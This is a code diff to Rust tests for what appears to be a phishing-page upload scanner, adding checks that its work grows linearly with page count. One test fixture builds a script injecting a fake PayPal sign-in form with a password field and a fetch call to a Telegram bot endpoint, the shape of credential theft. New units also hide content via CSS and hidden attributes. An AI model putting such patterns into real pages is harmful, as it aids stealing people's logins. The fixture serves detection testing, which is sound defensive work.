@@ -1,13 +1,14 @@
 //! Tests that the work of the check grows no faster than the page, whatever it contains. Work is counted, not timed.
 
 use super::facts::PageFacts;
+use super::line_numbers::LineNumbers;
 use super::reader::script;
 use super::reader::{self, FILE, Origin};
 use super::rules::Rules;
 use super::upload::{File, Upload};
-use super::verdict::SCORED_KINDS;
+use super::verdict::{SCORED_KINDS, UploadScorer};
 
-const UNITS: [&str; 22] = [
+const UNITS: [&str; 26] = [
     "<",
     "<a>",
     "<!--",
@@ -30,6 +31,10 @@ const UNITS: [&str; 22] = [
     "\u{41f}\u{430}\u{440}\u{43e}\u{43b}\u{44c} ",
     "<span style='display:none'>x</span>",
     "<noframes><noframes>",
+    "<p hidden>x<ul><li hidden>x</ol>",
+    "<table><td hidden></tr>",
+    "<style>/*{}*/.a:not(.b,.c) .d{display:/**/none}</style>",
+    "<style>((((.a[,{display:none}/*",
 ];
 
 /// More units for documents in XML.
@@ -85,4 +90,31 @@ fn a_script_is_read_once_however_many_pages_load_it() {
     };
     let (few, many) = (work(20), work(400));
     assert!(many <= few + (4 << 20), "{few}, then {many}");
+}
+
+#[test]
+fn lines_of_a_script_are_counted_once_however_many_pages_are_refused_for_it() {
+    let rules = Rules::builtin();
+    let script = format!(
+        "{}a.innerHTML='<h1>Sign in to your PayPal account</h1><input name=user><input type=password>';\
+         fetch('https://api.telegram.org/bot1:INVALID/sendMessage')",
+        "let x = 1;\n".repeat(100_000)
+    );
+    let work = |pages: usize| {
+        let paths: Vec<String> = (0..pages).map(|page| format!("{page}.html")).collect();
+        let mut files = vec![File { path: "all.js", text: &script }];
+        files.extend(paths.iter().map(|path| File { path, text: "<script src=all.js></script>" }));
+        let upload = Upload::new(&files);
+        let mut scorer = UploadScorer::new(&upload, &rules);
+        upload.for_each_file(&rules, &SCORED_KINDS, |file, _, facts| scorer.score_page(file, facts));
+        let mut lines = LineNumbers::default();
+        let verdict = scorer.finish_with(&mut lines);
+        assert!(
+            verdict.refused && verdict.reasons.iter().all(|reason| reason.line == 100_001),
+            "{verdict:?}"
+        );
+        lines.work
+    };
+    let (few, many) = (work(2), work(300));
+    assert!(few <= 2 * script.len() && many <= 5 * script.len(), "{few}, then {many}");
 }
